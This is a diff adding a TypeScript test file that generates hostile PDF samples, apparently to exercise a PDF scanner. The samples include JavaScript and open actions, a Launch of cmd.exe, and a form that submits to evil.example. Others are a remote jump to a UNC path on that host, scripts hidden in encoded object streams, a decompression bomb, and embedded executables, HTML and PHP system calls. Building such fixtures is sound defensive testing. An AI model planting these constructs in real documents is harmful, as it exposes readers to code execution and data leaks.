@@ -1,0 +1,199 @@
+// PDFs that do more than be read: scripts, attachments, actions, other files within, and ways to hide them.
+import { deflateSync } from 'node:zlib'
+import { plainPdf, writePdf } from './sample-files.ts'
+
+export interface HostilePdf {
+  what: string
+  body: Buffer
+}
+
+const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+
+export function hostilePdfs(): HostilePdf[] {
+  return [...active(), ...hidden(), ...mixed(), ...broken()]
+}
+
+/** Objects of an otherwise plain paper. */
+function active(): HostilePdf[] {
+  const objects: Record<string, string> = {
+    'a script': SCRIPT,
+    'a script by an escaped name': '<< /S /J#61vaScript /JS (x) >>',
+    'a script by a name of escapes alone': '<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>',
+    'a tree of scripts': '<< /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
+    'an action on opening': `<< /Type /Catalog /OpenAction ${SCRIPT} >>`,
+    'an action on opening, elsewhere': '<< /Type /Catalog /OpenAction 9 0 R >>',
+    'an action on opening, escaped': '<< /Open#41ction<</S/Named/N/Print>> >>',
+    'a program to launch': '<< /S /Launch /F (cmd.exe) >>',
+    'a program to launch, escaped': '<< /S /L#61unch /F (cmd.exe) >>',
+    'an attachment': '<< /Type /EmbeddedFile /Length 0 >>',
+    'a list of attachments': '<< /EmbeddedFiles << /Names [(a) 7 0 R] >> >>',
+    'a portfolio': '<< /Collection << /View /D >> >>',
+    'rich media': '<< /Subtype /RichMedia /RichMediaContent 7 0 R >>',
+    'a form of its own language': '<< /AcroForm << /XFA [(template) 7 0 R] >> >>',
+    'a form that sends': '<< /S /SubmitForm /F (https://evil.example/) >>',
+    'a form that takes in': '<< /S /ImportData /F (x.fdf) >>',
+    'a jump into an attachment': '<< /S /GoToE /T << /R /C >> >>',
+    'a jump into another file': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>',
+    'a film': '<< /Subtype /Movie /Movie << /F (x.avi) >> >>',
+    'a rendition with a script': '<< /S /Rendition /JS (x) >>',
+  }
+  return [
+    ...Object.entries(objects).map(([what, extra]) => ({ what, body: plainPdf({ extra }) })),
+    { what: 'protected', body: writePdf(PAGES, '/Encrypt << /Filter /Standard /V 2 >> ') },
+    { what: 'protected, escaped', body: writePdf(PAGES, '/#45ncrypt 9 0 R ') },
+  ]
+}
+
+const PAGES = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']
+
+function hidden(): HostilePdf[] {
+  const inner = `7 0 8 60 ${'<< /Type /Catalog >>'.padEnd(60)}${SCRIPT}`
+  const packed = deflateSync(Buffer.from(inner))
+  const stream = (dictionary: string, body: Buffer) =>
+    plainPdfWith(
+      Buffer.concat([
+        Buffer.from(`<< ${dictionary} /Length ${body.length} >>\nstream\n`),
+        body,
+        Buffer.from('\nendstream'),
+      ]),
+    )
+  const flate = '/Filter /FlateDecode'
+  const bomb = deflateSync(
+    Buffer.concat([Buffer.from('7 0 8 20 '), Buffer.alloc(40_000_000, 0x20)]),
+  )
+  return [
+    {
+      what: 'a script in an object stream',
+      body: stream(`/Type /ObjStm /N 2 /First 9 ${flate}`, packed),
+    },
+    { what: 'an object stream that says nothing of itself', body: stream(flate, packed) },
+    {
+      what: 'an object stream as a picture',
+      body: stream(`/Subtype /Image /N 2 /First 9 ${flate}`, packed),
+    },
+    {
+      what: 'an object stream in ASCII85',
+      body: stream('/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]', ascii85(packed)),
+    },
+    {
+      what: 'an object stream in hexadecimal digits',
+      body: stream(
+        '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]',
+        Buffer.from(`${packed.toString('hex')}>`),
+      ),
+    },
+    {
+      what: 'an old packing',
+      body: stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('80aa')),
+    },
+    {
+      what: 'an object stream that is cut',
+      body: stream(`/Type /ObjStm ${flate}`, damaged(inner)),
+    },
+    { what: 'an object stream that is a bomb', body: stream(`/Type /ObjStm ${flate}`, bomb) },
+    {
+      what: 'objects behind a word in a comment',
+      body: plainPdf({ extra: `% stream\n${SCRIPT}\n% endstream` }),
+    },
+    {
+      what: 'objects in a stream that ends early',
+      body: stream('', Buffer.from(`endstream ${SCRIPT}`)),
+    },
+    { what: 'ten thousand beginnings', body: plainPdf({ extra: 'stream\n'.repeat(30_000) }) },
+  ]
+}
+
+/** Whole at its beginning, so that objects are seen, and broken at its end. */
+function damaged(inner: string): Buffer {
+  const long = deflateSync(
+    Buffer.from(inner + Array.from({ length: 9_000 }, (_, at) => `${at * 7919} `).join('')),
+  )
+  return Buffer.concat([long.subarray(0, long.length - 900), Buffer.alloc(900, 0x99)])
+}
+
+function ascii85(bytes: Buffer): Buffer {
+  let text = ''
+  for (let at = 0; at < bytes.length; at += 4) {
+    const group = Buffer.alloc(4)
+    const length = bytes.copy(group, 0, at, at + 4)
+    let value = group.readUInt32BE(0)
+    const signs: string[] = []
+    for (let sign = 0; sign < 5; sign += 1) {
+      signs.unshift(String.fromCharCode(33 + (value % 85)))
+      value = Math.floor(value / 85)
+    }
+    text += signs.slice(0, length + 1).join('')
+  }
+  return Buffer.from(`${text}~>`)
+}
+
+/** Other files within the paper. */
+function mixed(): HostilePdf[] {
+  const zip = `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000${'\u0000'.repeat(16)}\u0004\u0000\u0000\u0000evil`
+  const end = `PK\u0005\u0006${'\u0000'.repeat(18)}`
+  const program = Buffer.alloc(200)
+  program.write('MZ', 0)
+  program.writeUInt32LE(128, 60)
+  program.write('PE\0\0', 128)
+  const within: Record<string, Buffer> = {
+    'a zip in a stream': Buffer.from(zip, 'latin1'),
+    'the end of a zip': Buffer.from(end, 'latin1'),
+    'a rar': Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'),
+    'a 7z': Buffer.from("7z\u00bc\u00af'\u001c", 'latin1'),
+    'an old office file': Buffer.from('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', 'latin1'),
+    'a Linux program': Buffer.from('\u007fELF\u0002\u0001\u0001\u0000', 'latin1'),
+    'a Windows program': program,
+    'a page': Buffer.from('<HTML><body onload=alert(1)>'),
+    'a script of pages': Buffer.from('<script>alert(1)</script>'),
+    PHP: Buffer.from('<?php system("id"); ?>'),
+    'a drawing': Buffer.from('<svg width="1" xmlns="http://www.w3.org/2000/svg" onload="x">'),
+    'a frame': Buffer.from('<iframe src=x>'),
+  }
+  const made = Object.entries(within).map(([what, body]) => ({
+    what: `${what} within`,
+    body: plainPdfWith(
+      Buffer.concat([
+        Buffer.from(`<< /Length ${body.length} >>\nstream\n`),
+        body,
+        Buffer.from('\nendstream'),
+      ]),
+    ),
+  }))
+  const plain = plainPdf()
+  return [
+    ...made,
+    { what: 'a zip behind', body: Buffer.concat([plain, Buffer.from(zip + end, 'latin1')]) },
+    {
+      what: 'a page before',
+      body: Buffer.concat([Buffer.from('<html><script>x</script>\n'), plain]),
+    },
+    {
+      what: 'a page behind',
+      body: Buffer.concat([plain, Buffer.from('<html><script>x</script>')]),
+    },
+    { what: 'a program before', body: Buffer.concat([program, plain]) },
+    { what: 'a script in its first line', body: headed('%PDF-1.7 <script>alert(1)</script>\n') },
+  ]
+}
+
+function broken(): HostilePdf[] {
+  const plain = plainPdf()
+  return [
+    { what: 'cut in half', body: plain.subarray(0, plain.length >> 1) },
+    { what: 'without its end', body: plain.subarray(0, plain.length - 8) },
+    { what: 'its head alone', body: Buffer.from('%PDF-1.7\n') },
+    { what: 'its head and its end alone', body: Buffer.from('%PDF-1.7\n%%EOF\n') },
+    { what: 'a byte before', body: Buffer.concat([Buffer.from('\n'), plain]) },
+    { what: 'bytes behind', body: Buffer.concat([plain, Buffer.alloc(2000, 0x61)]) },
+    { what: 'a version of no time', body: headed('%PDF-9.9\n') },
+  ]
+}
+
+function headed(head: string): Buffer {
+  const plain = plainPdf()
+  return Buffer.concat([Buffer.from(head), plain.subarray(9)])
+}
+
+function plainPdfWith(object: Buffer): Buffer {
+  return writePdf([...PAGES, object])
+}
